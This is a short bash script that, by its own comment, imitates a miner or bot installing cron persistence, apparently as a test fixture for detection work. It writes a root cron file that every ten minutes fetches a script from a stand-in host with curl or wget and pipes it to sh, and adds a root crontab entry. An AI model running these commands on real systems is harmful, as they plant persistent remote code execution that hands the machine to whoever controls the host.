#!/bin/bash
# Imitates cron persistence of a miner/bot: a system cron file and a user crontab of its own, both
# re-downloading and running a script every few minutes.
cat > /etc/cron.d/corpus-dbus <<'CRON'
*/10 * * * * root (curl -fsSL http://update.cronbot.test/u.sh || wget -q -O- http://update.cronbot.test/u.sh) | sh
CRON
mkdir -p /var/spool/cron/crontabs
echo '*/5 * * * * /root/.local/bin/corpus-dbus >/dev/null 2>&1' >> /var/spool/cron/crontabs/root
echo "persistence installed"
